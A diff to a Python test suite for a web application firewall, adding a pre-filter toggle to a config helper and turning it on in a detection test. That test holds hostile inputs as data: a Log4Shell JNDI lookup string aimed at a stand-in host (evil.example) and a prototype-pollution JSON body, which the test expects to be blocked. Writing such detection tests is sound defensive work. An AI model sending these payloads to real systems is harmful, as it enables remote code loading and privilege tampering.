@@ -37,7 +37,13 @@ JSON = [("Content-Type", "application/json")]
 
 
 def waf_block(extra="", name="crs"):
+    """A waf section.  The pre-filter is off unless `extra` says otherwise:
+    its build costs seconds per start (more under ASan), and what these
+    tests check does not depend on it; the tests that are about it (and
+    test_waf_corpus.py, which compares it on and off) turn it on."""
     lines = ["waf %s {" % name, "    rules %s" % CRS]
+    if "prefilter" not in extra:
+        lines.append("    prefilter off")
     lines += ["    " + l.strip() for l in extra.splitlines() if l.strip()]
     return "\n".join(lines) + "\n}\n"
 
@@ -342,7 +348,10 @@ def test_default_exclusions_and_detections(gatehouse, origin, port):
     gql = "/graphql?query=" + quote("{ me { id name } }")
     log4j = [("X-Api-Version", "${${lower:j}ndi:ldap://evil.example/x}")]
     proto = b'{"__proto__": {"isAdmin": true}}'
-    g = start(gatehouse, port, origin)
+    # with the pre-filter: it must see gatehouse's own rules too, or the
+    # Log4j and prototype-pollution requests (which no CRS rule matches)
+    # would skip ModSecurity and pass
+    g = start(gatehouse, port, origin, waf="prefilter on")
     assert send(port, "PUT", "/api/items/1", JSON, b'{"n": 1}').status == 200
     assert send(port, "GET", gql).status == 200
     assert send(port, "GET", "/", log4j).status == 403
